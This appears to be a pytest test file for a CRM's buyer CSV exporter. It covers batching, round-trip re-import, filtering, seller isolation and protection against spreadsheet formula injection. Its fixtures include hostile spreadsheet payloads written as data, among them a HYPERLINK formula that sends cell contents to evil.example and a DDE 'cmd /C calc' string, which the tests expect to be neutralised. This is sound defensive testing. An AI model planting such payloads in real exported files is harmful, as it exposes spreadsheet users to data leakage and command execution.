"""Buyer export to CSV: streamed in keyset batches; an export re-imports as the same buyers."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from crossborder_crm.buyers.listing import BuyerFilter
from crossborder_crm.buyers.orders import add_order
from crossborder_crm.accounts.service import create_seller
from crossborder_crm.buyers import exporter
from crossborder_crm.buyers.exporter import EXPORT_COLUMNS, export_buyers
from crossborder_crm.buyers.importer import BUYER_COLUMNS, import_buyers
from crossborder_crm.buyers.models import Buyer
from crossborder_crm.buyers.service import create_buyer

BUYERS = [
    {"name": "Lucía García", "email": "lucia@example.es", "country": "ES", "city": "Madrid",
     "phone": "612 34 56 78", "tags": ["vip", "repeat"], "notes": "line one\nline \"two\", with comma",
     "consent": {"status": "granted", "source": "checkout"}},
    {"name": "Jo Smith", "email": "Jo@example.com", "country": "US", "region": "IL",
     "marketplace": "amazon", "marketplace_buyer_id": "A-1", "marketplace_locale": "es-US"},
    {"name": "Ana Souza", "country": "BR", "region": "SP", "timezone": "America/Noronha",
     "language": "pt-BR", "postal_code": "01000-000", "consent": {"status": "denied"}},
    {"name": "佐藤 花子", "email": "hanako@example.jp", "country": "JP", "tags": ["asia"]},
    {"name": "=cmd()", "country": "DE", "notes": "+leading plus"},
]
COMPARED = ("name", "email", "phone", "country", "region", "city", "postal_code", "timezone",
            "timezone_source", "timezone_confidence", "timezone_explanation", "language",
            "language_source", "language_explanation", "marketplace", "marketplace_buyer_id",
            "marketplace_locale", "tags", "notes", "consent_status", "consent_source", "consent_at")


@pytest.fixture
def shop(database, clock):
    seller = create_seller(database, clock, "Shop", "owner@example.com", "correct horse 1").seller_id
    made = [create_buyer(database, clock, seller, data) for data in BUYERS]
    add_order(database, clock, seller, made[0].id, {"external_id": "1", "placed_at": "2026-01-05T10:00:00Z",
                                                    "currency": "EUR", "total": "12.50"})
    add_order(database, clock, seller, made[0].id, {"external_id": "2", "placed_at": "2026-02-05T10:00:00Z",
                                                    "currency": "JPY", "total": "1500"})
    return seller


def exported(database, seller, flt=None, **kw) -> tuple[int, list[dict]]:
    out = io.StringIO(newline="")
    n = export_buyers(database, seller, out, flt, **kw)
    return n, list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def snapshot(database, seller) -> list[dict]:
    with database.reading() as s:
        rows = s.scalars(select(Buyer).where(Buyer.seller_id == seller).order_by(Buyer.id)).all()
        return [{f: getattr(b, f) for f in COMPARED} for b in rows]


def test_export_has_the_import_columns_and_the_read_only_ones(database, shop):
    n, rows = exported(database, shop)
    assert n == len(BUYERS) == len(rows)
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert set(BUYER_COLUMNS) < set(EXPORT_COLUMNS)
    lucia = rows[0]
    assert lucia["spend"] == "EUR 12.50; JPY 1500"
    assert lucia["order_count"] == "2" and lucia["last_order_at"] == "2026-02-05T10:00:00Z"
    assert lucia["tags"] == "vip;repeat" and lucia["phone"] == "'+34612345678"  # quoted: see formula tests
    assert lucia["notes"] == 'line one\nline "two", with comma'
    assert lucia["consent"] == "granted" and lucia["consent_at"] == "2026-03-10T02:00:00Z"
    assert rows[2]["timezone_source"] == "given" and rows[1]["marketplace_locale"] == "es-US"
    assert rows[4]["name"] == "'=cmd()"
    assert [int(r["id"]) for r in rows] == sorted(int(r["id"]) for r in rows)


def test_export_reimported_into_a_new_seller_gives_the_same_buyers(database, clock, shop):
    out = io.StringIO(newline="")
    export_buyers(database, shop, out)
    other = create_seller(database, clock, "Copy", "copy@example.com", "correct horse 1").seller_id
    report = import_buyers(database, clock, other, io.BytesIO(out.getvalue().encode()), fmt="csv")
    assert report.errors == [] and report.buyers_created == len(BUYERS)
    assert snapshot(database, other) == snapshot(database, shop)


def test_export_reimported_into_the_same_seller_updates_nothing_away(database, clock, shop):
    before = snapshot(database, shop)
    out = io.StringIO(newline="")
    export_buyers(database, shop, out)
    report = import_buyers(database, clock, shop, io.BytesIO(out.getvalue().encode()), fmt="csv")
    assert report.errors == []
    # buyers with an email (or a marketplace id) are matched; the two without are new copies
    assert (report.buyers_updated, report.buyers_created) == (3, 2)
    assert snapshot(database, shop)[:len(before)] == before


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", "'=already quoted"]  # a leading tab or CR is stripped when a buyer is saved


@pytest.fixture
def formulas(database, clock):
    """A seller whose marketplace buyers have names, cities and notes a spreadsheet would run."""
    seller = create_seller(database, clock, "Formulas", "f@example.com", "correct horse 1").seller_id
    for i, text in enumerate(FORMULAS):
        create_buyer(database, clock, seller, {"name": text, "country": "DE", "city": text, "notes": text,
                                               "email": f"b{i}@example.com"})
    return seller


def test_text_cells_a_spreadsheet_would_run_get_one_leading_quote_and_numbers_none(database, formulas):
    _, rows = exported(database, formulas)
    for row, text in zip(rows, FORMULAS):
        assert row["name"] == row["city"] == row["notes"] == "'" + text
        assert int(row["order_count"]) == 0 and int(row["id"]) > 0
    cells = [v for r in rows for v in r.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_with_formula_like_text_reimports_to_the_same_text(database, clock, formulas):
    out = io.StringIO(newline="")
    export_buyers(database, formulas, out)
    assert ",'@SUM(1+1)," in out.getvalue()  # what goes back in is the quoted export
    other = create_seller(database, clock, "Copy", "copy@example.com", "correct horse 1").seller_id
    report = import_buyers(database, clock, other, io.BytesIO(out.getvalue().encode()), fmt="csv")
    assert report.errors == []
    assert [b["name"] for b in snapshot(database, other)] == FORMULAS
    assert snapshot(database, other) == snapshot(database, formulas)


def test_export_is_keyset_batched(database, shop, monkeypatch):
    pages = []
    real = exporter.list_buyers

    def spy(*a, **kw):
        page = real(*a, **kw)
        pages.append(len(page.items))
        return page

    monkeypatch.setattr(exporter, "list_buyers", spy)
    n, rows = exported(database, shop, batch=2)
    assert n == 5 and pages == [2, 2, 1]
    assert len({r["id"] for r in rows}) == 5


def test_export_filters_like_the_api(database, shop):
    n, rows = exported(database, shop, BuyerFilter(country="US"))
    assert n == 1 and rows[0]["email"] == "Jo@example.com"
    n, rows = exported(database, shop, BuyerFilter(tag="asia"))
    assert [r["name"] for r in rows] == ["佐藤 花子"]


def test_export_of_a_seller_without_buyers_is_just_the_header(database, clock):
    seller = create_seller(database, clock, "Empty", "e@example.com", "correct horse 1").seller_id
    n, rows = exported(database, seller)
    assert n == 0 and rows == []


def test_export_never_includes_another_sellers_buyers(database, clock, shop):
    other = create_seller(database, clock, "Other", "o@example.com", "correct horse 1").seller_id
    create_buyer(database, clock, other, {"name": "Not yours", "country": "FR"})
    n, rows = exported(database, shop)
    assert n == len(BUYERS) and "Not yours" not in {r["name"] for r in rows}
